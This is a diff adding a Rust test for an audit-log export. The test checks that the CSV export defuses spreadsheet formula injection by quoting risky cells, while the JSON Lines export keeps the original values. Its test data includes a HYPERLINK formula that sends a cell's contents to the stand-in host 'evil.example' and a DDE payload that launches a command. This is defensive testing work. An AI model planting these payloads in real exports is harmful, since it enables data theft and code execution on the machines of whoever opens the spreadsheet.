@@ -204,6 +204,66 @@ fn check_rows(rows: &[ExportRow]) {
     }
 }
 
+/// Outsiders' text that a spreadsheet would run (a login, a display name, a subject): in the
+/// CSV each such cell starts with `'`; the JSON Lines carry the original, and the chain
+/// re-verifies from the CSV once that quote is removed.
+async fn formula_cells_are_neutralised_in_the_csv_only(db: Db) {
+    let (_db, store) = fresh_store(db).await;
+    let clock = Clock::system();
+    let risky = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+        "  =1+1",
+    ];
+    for r in risky {
+        audit::append_now(
+            &store,
+            &clock,
+            NewEntry::new(r, "request.created", r, json!({"reason": r})),
+        )
+        .await
+        .unwrap();
+    }
+    let mut jsonl = Vec::new();
+    export(&store, None, None, ExportFormat::Jsonl, &mut jsonl)
+        .await
+        .unwrap();
+    let originals: Vec<ExportRow> = String::from_utf8(jsonl)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let mut csv_bytes = Vec::new();
+    export(&store, None, None, ExportFormat::Csv, &mut csv_bytes)
+        .await
+        .unwrap();
+    let mut from_csv: Vec<ExportRow> = csv::Reader::from_reader(csv_bytes.as_slice())
+        .deserialize()
+        .map(|r| r.unwrap())
+        .collect();
+    assert_eq!(originals.len(), risky.len());
+    for (i, r) in risky.iter().enumerate() {
+        assert_eq!(originals[i].actor, *r);
+        assert_eq!(originals[i].subject, *r);
+        assert_eq!(from_csv[i].actor, format!("'{r}"), "{r:?}");
+        assert_eq!(from_csv[i].subject, format!("'{r}"), "{r:?}");
+        // Cells that start with `{`, a hash or a number are left alone.
+        assert_eq!(from_csv[i].details, originals[i].details);
+        assert_eq!(from_csv[i].hash, originals[i].hash);
+        assert_eq!(from_csv[i].action, "request.created");
+    }
+    check_rows(&originals);
+    for row in &mut from_csv {
+        row.actor = row.actor.strip_prefix('\'').unwrap().to_string();
+        row.subject = row.subject.strip_prefix('\'').unwrap().to_string();
+    }
+    check_rows(&from_csv);
+}
+
 async fn export_round_trips(db: Db) {
     let (_db, store) = fresh_store(db).await;
     append_n(&store, 20).await;
@@ -438,6 +498,7 @@ both_backends!(
     tampering_is_detected,
     concurrent_appenders_form_one_chain,
     export_round_trips,
+    formula_cells_are_neutralised_in_the_csv_only,
     http_audit_pages_for_auditors,
     cli_verify_and_export
 );
